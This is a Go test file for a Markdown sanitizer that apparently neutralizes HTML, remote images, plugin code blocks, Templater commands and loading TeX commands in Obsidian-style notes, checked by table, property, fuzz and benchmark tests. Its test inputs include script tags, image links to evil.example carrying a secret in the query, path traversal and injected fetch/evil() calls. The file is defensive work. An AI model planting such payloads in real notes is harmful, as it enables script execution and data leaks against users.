package neutralize

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/text"
	"pgregory.net/rapid"

	"emberd/vault/lex"
	"emberd/vault/markdown"
)

func TestWhatANoteWouldRunIsText(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"<script>alert(1)</script>", `\<script>alert(1)\</script>`},
		{`<img src="https://evil.example/x.png">`, `\<img src="https://evil.example/x.png">`},
		{"a <!-- hidden --> b <?php ?>", `a \<!-- hidden --> b \<?php ?>`},
		{`\<b> \\<b> \\\<b>`, `\<b> \\\<b> \\\<b>`},
		{"![x](https://evil.example/?q=secret)", `\![x](https://evil.example/?q=secret)`},
		{"![a][b]\n\n[b]: //evil.example/x", "\\![a][b]\n\n[b]: //evil.example/x"},
		{"![[x]](https://evil.example)", `\![[x]](https://evil.example)`},
		{"![a](x/../../../etc/x.png) ![a](..//evil.example/x)", `\![a](x/../../../etc/x.png) \![a](..//evil.example/x)`},
		{`$\style{background:url(//evil.example)}{x}$`, `$\\style{background:url(//evil.example)}{x}$`},
		{"$$\n```\n\\\\\\href{x}{y}\n```\n$$", "$$\n```\n\\\\\\\\href{x}{y}\n```\n$$"},
		{"`jsx:<Evil/>`", "`\\jsx:<Evil/>`"},
		{"said %%this%% aloud", `said %\%this%\% aloud`},
		{"`= this.file.name` and ``$= dv.x()``", "`\\= this.file.name` and ``\\$= dv.x()``"},
		{"`INPUT[toggle:x]` `button-run` `dice: 1d6`", "`\\INPUT[toggle:x]` `\\button-run` `\\dice: 1d6`"},
		{"a `\n= this.x` b", "a `\n\\= this.x` b"},
		{"```js-engine\nx\n```", "```text js-engine\nx\n```"},
		{"```run-python\nx\n```", "```text run-python\nx\n```"},
		{"- ```dataviewjs\n  x\n  ```", "- ```text dataviewjs\n  x\n  ```"},
		{"    ~~~ meta-bind-js-view\n", "    ~~~ text meta-bind-js-view"},
		{"```bash\necho <% tp.x %>\n```", "```bash\necho <\\% tp.x %>\n```"},
		{"````md\n```dataviewjs\nx\n```\n````", "````md\n```text dataviewjs\nx\n```\n````"},
		{"---\ncssclasses: x\n---", "\\---\ncssclasses: x\n---"},
		{"```\n<script>", "```\n\\<script>"},
		{"- a\n  ```\n<script>x</script>\n  ```", "- a\n  ```\n\\<script>x\\</script>\n  ```"},
		{"$`$ <script> `x", "$`$ \\<script> `x"},
		{"| ` | <img> ` |\n|---|---|", "| ` | \\<img> ` |\n|---|---|"},
	} {
		if got := Body(c.text); got != c.want {
			t.Errorf("Body(%q) is\n%q, want\n%q", c.text, got, c.want)
		}
	}
}

func TestWhatIsOnlyTextStays(t *testing.T) {
	for _, text := range []string{
		"a < b && c <= d, <3, 50 % off, $5, x <- y, [ ] and [x]",
		"> [!note] A callout\n> with `code<T>` in it",
		"```go\nvar x map[string]<-chan T // <b> ![x](http://y) %% $$\n```",
		"~~~html\n<script>alert(1)</script>\n~~~",
		"- point\n  ```sh\n  cat <file> | grep '<b>'\n  ```\n- next",
		"    indented",
		"Use `Vec<String>` and ``a ` b<T>``, and `x` = 5 %, then `vec<int>`.",
		"![](Attachments/plan.png) ![[Drawing 1.png|300]] ![[Note#Heading]]",
		"[[Link|shown]] and `a<T>` #tag ^block",
		"```\nno language <b>\n```\n\nand `more<T>`",
		"1. one\n2. two\n   ```json\n   {\"a\": \"<b>\"}\n   ```",
		"A formula $x^2$ and\n\n$$\ny = 2 \\\\ \\frac{a}{b} \\styled\n$$",
		"C:\\style and \\href without a formula",
	} {
		if got := Body(text); got != text {
			t.Errorf("Body(%q) is\n%q", text, got)
		}
	}
}

// readers are what Markdown is read with: as CommonMark with the common extensions has it,
// and as Obsidian does.
func readers() map[string]parser.Parser {
	return map[string]parser.Parser{
		"CommonMark": goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList)).Parser(),
		"bare":       goldmark.New().Parser(),
		"Obsidian":   markdown.NewParser().Parser,
	}
}

// foreignPicture is an address that is not below the vault.
var foreignPicture = regexp.MustCompile(`^(?:[A-Za-z][\w+.-]*:|[/\\])`)

// runs says what of a note would run or be loaded, "" for nothing.
func runs(p parser.Parser, body string) (what string) {
	src, prose := []byte(body), []byte(body)
	blank := func(s text.Segment) { copy(prose[s.Start:s.Stop], strings.Repeat(" ", s.Len())) }
	say := func(format string, args ...any) { what = fmt.Sprintf(format, args...) }
	_ = ast.Walk(p.Parse(text.NewReader(src)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		switch n := n.(type) {
		case *ast.RawHTML:
			say("HTML %q", n.Segments.Value(src))
		case *ast.HTMLBlock:
			say("a block of HTML %q", n.Lines().Value(src))
		case *ast.Image:
			if foreignPicture.Match(n.Destination) {
				say("the image %q", n.Destination)
			}
		case *ast.FencedCodeBlock:
			if lang := string(n.Language(src)); lang != "" && !common(lang) {
				say("a block of %q", lang)
			}
			for _, line := range n.Lines().Sliced(0, n.Lines().Len()) {
				blank(line)
			}
		case *ast.CodeSpan:
			for c := n.FirstChild(); c != nil; c = c.NextSibling() {
				if words, ok := c.(*ast.Text); ok {
					blank(words.Segment)
				}
			}
			if code := strings.TrimSpace(codeOf(n, src)); entering && runsInline().MatchString(code) {
				say("the code %q", code)
			}
		}
		return ast.WalkContinue, nil
	})
	switch {
	case strings.Contains(body, "$") && commandThatLoads(string(prose)):
		say("a formula that loads")
	case strings.Contains(body, "<%"):
		say("a command of Templater")
	case strings.HasPrefix(body, "---\n"):
		say("properties")
	case regionMark().MatchString(body):
		say("a mark of a region")
	}
	return what
}

// commandThatLoads reports a command of TeX that [loads] knows. Two backslashes are the end of a line of a formula.
func commandThatLoads(body string) bool {
	for i := 0; i+1 < len(body); i++ {
		if body[i] != '\\' {
			continue
		}
		if loads().MatchString(body[i:]) {
			return true
		}
		i++
	}
	return false
}

func oddMarkdown() *rapid.Generator[string] {
	piece := rapid.SampledFrom([]string{"a", " ", " ", "\n", "\n", "\n\n", "```", "`", "``", "~~~", "dataviewjs", "js", "<script>", "<b", ">", "<!-- ", "-->", "</b>", "<%", "%>", "%%", "%",
		"![", "![[", "]", "]]", "](", "](http://x.y/z)", "(x.png)", "[a]: http://e.f\n", "[^1]: ", "- ", "  ", "   ", "    ", "\t", "> ", "1. ", "|", "\n|---|---|\n", "$", "$$", "\\", "\"", "'", "=", "$=", "= ", "INPUT[", "---", "---\n", "<https://a.b/", "https://a.b/", "www.a.b/", "é", "*", "_", "[[", "~", ":", "\n: ", "\\style{x}", "<?", "<![CDATA[", "&lt;", "emberd:x"})
	return rapid.Map(rapid.SliceOfN(piece, 0, 24), func(all []string) string { return strings.Join(all, "") })
}

// Whatever the text, its note runs nothing, and says the text.
func TestNoNoteRunsItsText(t *testing.T) {
	all := readers()
	rapid.Check(t, func(t *rapid.T) { staysInert(t, all, oddMarkdown().Draw(t, "text")) })
}

// strayBackslash is what goldmark takes for the escape of the first mark of the next line, or
// behind an address that it makes a link, against CommonMark 0.31, "Backslash escapes": only
// a backslash right before it is.
var strayBackslash = regexp.MustCompile(`(?m)\\[ \t]+(?:$|https?://|ftp://|www\.)`)

func staysInert(t rapid.TB, all map[string]parser.Parser, text string) {
	body := Body(text)
	for name, p := range all {
		if what := runs(p, body); what != "" && !strayBackslash.MatchString(body) {
			t.Fatalf("Body(%q) is %q, and read as %s it has %s", text, body, name, what)
		}
	}
	if again := Body(body); again != body {
		t.Fatalf("Body(%q) is %q, and again %q", text, body, again)
	}
	at, ok := Insertions(body, text)
	if bare := lex.Bare(text); !ok || RemoveInsertions(body, at) != bare || !Matches(bare, text) || !slices.IsSorted(at) {
		t.Fatalf("Body(%q) is %q with insertions at %v, %v", text, body, at, ok)
	}
}

func FuzzBody(f *testing.F) {
	all := readers()
	for _, seed := range []string{"<script>", "```dataviewjs\nx\n```", "- a\n  ```\n<b>\n  ```", "` <b> `\n` c", "![a](b)", "$$\n```\n$$\n<b>\n```"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) < 2000 {
			staysInert(t, all, text)
		}
	})
}

func TestANoteHoldsATextHumansMadeWork(t *testing.T) {
	const text = "See <b>this</b>\n\n```dataviewjs\nx\n```"
	for body, want := range map[string]bool{
		text:       true,
		Body(text): true,
		"See \\<b>this\\</b>\n\n```dataviewjs\nx\n```": true, // the block is the human's
		"See \\<b>that\\</b>\n\n```dataviewjs\nx\n```": false,
		"See <b>this</b>": false,
		"See <b>this</b>\n\n```dataviewjs\nx\n```\nx":   false,
		"See *\\<b>this\\</b>\n\n```dataviewjs\nx\n```": false,
	} {
		if got := Matches(body, text); got != want {
			t.Errorf("%q holds the text: %v, want %v", body, got, want)
		}
	}
	if Matches("See <b>", `See \<b>`) {
		t.Error("a note without a backslash holds a text with one")
	}
}

// A user's own code stays in the note when another sentence of it is edited, and no caller
// gets a line into it.
func TestAHumansOwnCodeOutlivesAnEdit(t *testing.T) {
	const block = "```dataviewjs\ndv.list(dv.pages())\n```"
	const command = "<%*\nconst a = 1\n\ntR += a\n%>"
	for name, c := range map[string]struct{ was, now, want string }{
		"another sentence": {"Old <b>words</b>.\n\n" + block, "New <b>words</b>.\n\n" + block, "New \\<b>words\\</b>.\n\n" + block},
		"beside the line":  {"One <b>x</b>\ntwo", "One <b>x</b>\nthree", "One <b>x</b>\nthree"},
		"before and after": {"a\n\n" + command + "\n\nb", "c\n\n" + command + "\n\nd", "c\n\n" + command + "\n\nd"},
		"within the block": {block, "```dataviewjs\nfetch(x)\n```", "```text dataviewjs\nfetch(x)\n```"},
		"once more":        {block, block + "\n\n" + block, block + "\n\n```text dataviewjs\ndv.list(dv.pages())\n```"},
		"into the command": {command, "<%*\nconst a = 1\n\nevil()\n\ntR += a\n%>", "<\\%*\nconst a = 1\n\nevil()\n\ntR += a\n%>"},
		"between elements": {"<iframe>\n\n</iframe>", "<iframe>\nx\n</iframe>", "\\<iframe>\nx\n</iframe>"},
		"a command alone":  {"At <% tp.date.now() %>.\nx", "At <% tp.date.now() %>.\ny <% z %>", "At <% tp.date.now() %>.\ny <\\% z %>"},
	} {
		if got := Changed(c.was, c.now); got != c.want {
			t.Errorf("%s: it is\n%q, want\n%q", name, got, c.want)
		}
	}
}

// What was there is kept or made inert, line by line, and an edit that changes nothing
// changes no byte.
func TestAnEditMakesInertWhatIsNew(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		was, now := lex.Bare(oddMarkdown().Draw(t, "was")), lex.Bare(oddMarkdown().Draw(t, "now"))
		if got := Changed(was, was); got != was {
			t.Fatalf("%q becomes %q although nothing changes", was, got)
		}
		got, made, given := strings.Split(Changed(was, now), "\n"), strings.Split(neutralizeMarkup(now), "\n"), strings.Split(now, "\n")
		before := strings.Split(was, "\n")
		for i, line := range got {
			if line != made[i] && (line != given[i] || !slices.Contains(before, line)) {
				t.Fatalf("with %q before, %q has the line %q", was, now, line)
			}
		}
	})
}

// codeOf is the text between backticks, whose children are nothing else.
func codeOf(n *ast.CodeSpan, src []byte) string {
	var code []byte
	for c := n.FirstChild(); c != nil; c = c.NextSibling() {
		if part, ok := c.(*ast.Text); ok {
			code = append(code, part.Value(src)...)
		}
	}
	return string(code)
}

// hostile repeats what makes a scanner look back or far ahead.
func hostile(size int) map[string]string {
	all := make(map[string]string)
	for _, unit := range []string{"`", "` ", "a`", "`=", "`a``b", "a`b@", "[[", "[[[[a", "![[a|", "![a](", "<", "<% ", "<!--  ", "%%", "~~~ ```\n", " ```\na\n", "- ~~~\n", "\\`", "$$ ` ", "|`|"} {
		all[unit] = strings.Repeat(unit, size/len(unit))
	}
	return all
}

// BenchmarkBody has the slowest of the hostile texts beside them all: four times the text is
// to take four times as long.
func BenchmarkBody(b *testing.B) {
	for _, size := range []int{16 << 10, 32 << 10, 64 << 10} {
		b.Run(fmt.Sprintf("%dKiB", size>>10), func(b *testing.B) {
			texts := hostile(size)
			var slowest time.Duration
			for b.Loop() {
				slowest = 0
				for _, text := range texts {
					began := time.Now()
					body := Body(text)
					Changed(text, body)
					slowest = max(slowest, time.Since(began))
				}
			}
			b.ReportMetric(float64(slowest.Microseconds())/float64(size>>10), "µs/KiB-slowest")
		})
	}
}
